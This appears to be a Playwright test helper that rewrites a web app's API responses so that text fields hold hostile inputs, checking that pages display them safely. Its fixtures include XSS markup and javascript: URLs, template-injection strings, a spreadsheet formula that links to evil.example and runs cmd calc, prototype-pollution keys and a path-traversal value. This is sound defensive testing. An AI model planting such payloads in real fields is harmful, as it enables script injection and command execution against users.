import type { Page } from 'playwright/test';

declare global {
  interface Window {
    /** Set by every hostile text that is executed. */
    hostile?: number;
  }
}

/** A host that the cabinet must never call or link to. */
export const EVIL = 'evil.example';

const MARKUP =
  '<img src=x onerror="window.hostile=1"><svg onload="window.hostile=2"></svg>' +
  '"><script>window.hostile=3</script><a href="javascript:window.hostile=4">';
/** An unclosed direction override and isolate, and characters without a width. */
const DIRECTIONS = '\u202Eтскет\u2066\u200Fа\u200B\u200D\uFEFF\u00AD';
/** Ends of records in CSV, calendars, 1С files and payment codes; NUL; half of a surrogate pair. */
const BREAKS = '\r\nEND:VEVENT\r\nКонецДокумента\r\n;"\';\t\0\uD800\u2028|Sum=1|';
const TEMPLATES = "${window.hostile=5}{{constructor.constructor('window.hostile=6')()}}%s%n%25%00";
/** Stacked marks, an emoji of several parts, a word without break opportunities. */
const SHAPES = `а${'\u0301\u0336'.repeat(60)}👩‍👩‍👧${'W'.repeat(300)}`;

const EVERYTHING = MARKUP + DIRECTIONS + BREAKS + TEMPLATES + SHAPES;

/** Texts that are hostile only at the beginning of a value, or as the whole value. */
const WHOLE_TEXTS = [
  `javascript:window.hostile=7//https://${EVIL}/%0a`,
  `//${EVIL}/?x=1#y`,
  `=HYPERLINK("https://${EVIL}/"&A1;"x")+cmd|'/C calc'!A0`,
  'constructor',
  '__proto__',
  'hasOwnProperty',
  '../../v1/auth/logout?all=1#%2e%2e',
];

/**
 * Functions that return the replacement of the text at an index: always `EVERYTHING`, or the texts of `WHOLE_TEXTS` in
 * turn.
 */
export const HOSTILITIES = {
  everything: () => EVERYTHING,
  'one thing in each': (index: number) => WHOLE_TEXTS[index % WHOLE_TEXTS.length] ?? '',
} as const;

export type Hostility = keyof typeof HOSTILITIES;

/** Ids and dates stay unchanged, because pages would show no data for spoiled ones. */
const KEPT = /^[0-9a-f]{8}-[0-9a-f-]{27}$|^\d{4}-\d\d(-\d\d|$)/i;
/** Fields that are not spoiled: ids, and `number`, by which addresses and filters name an agreement. */
const KEPT_NAMES = /^(?:id|.+Id|number)$/;
/** Matches codes of statuses, roles and kinds. These codes decide what the page shows. */
const CODE = /^[A-Z][A-Z0-9_]+$/;
/** Addresses whose responses are not spoiled: tokens of the session, and names of modules. */
const KEPT_ANSWERS = /\/auth\/|\/build\/module$/;
/** Calls for the current user. Their codes are never spoiled, because they decide about the user's rights. */
const OWN_CODES = /\/v1\/user$/;

/** Returns the value with hostile texts; keeps ids, dates and, without `codesToo`, codes. */
function spoil(value: unknown, textAt: (index: number) => string, codesToo: boolean): unknown {
  let index = 0;
  const spoiled = (inner: unknown, name: string): unknown => {
    if (Array.isArray(inner)) return inner.map((one) => spoiled(one, name));
    if (typeof inner === 'object' && inner !== null) {
      return Object.fromEntries(
        Object.entries(inner).map(([field, one]) => [field, spoiled(one, field)]),
      );
    }
    if (typeof inner !== 'string' || KEPT.test(inner) || KEPT_NAMES.test(name)) return inner;
    if (CODE.test(inner) && !codesToo) return inner;
    index += 1;
    return textAt(index);
  };
  return spoiled(value, '');
}

/** Rewrites the JSON responses to a page from now on, except those of KEPT_ANSWERS. */
export async function rewriteAnswers(
  page: Page,
  change: (body: unknown, path: string) => unknown,
): Promise<void> {
  await page.route('**/api/**', async (route) => {
    const { pathname } = new URL(route.request().url());
    const answer = await route.fetch();
    const isJson = answer.headers()['content-type']?.includes('json') === true;
    if (!isJson || KEPT_ANSWERS.test(pathname)) return route.fulfill({ response: answer });
    const body: unknown = await answer.json();
    return route.fulfill({ response: answer, json: change(body, pathname) });
  });
}

/** Spoils the JSON responses to a page from now on, except those of KEPT_ANSWERS. */
export function answerWithHostility(page: Page, hostility: Hostility): Promise<void> {
  const textAt = HOSTILITIES[hostility];
  const codesToo = hostility === 'one thing in each';
  return rewriteAnswers(page, (body, path) =>
    spoil(body, textAt, codesToo && !OWN_CODES.test(path)),
  );
}
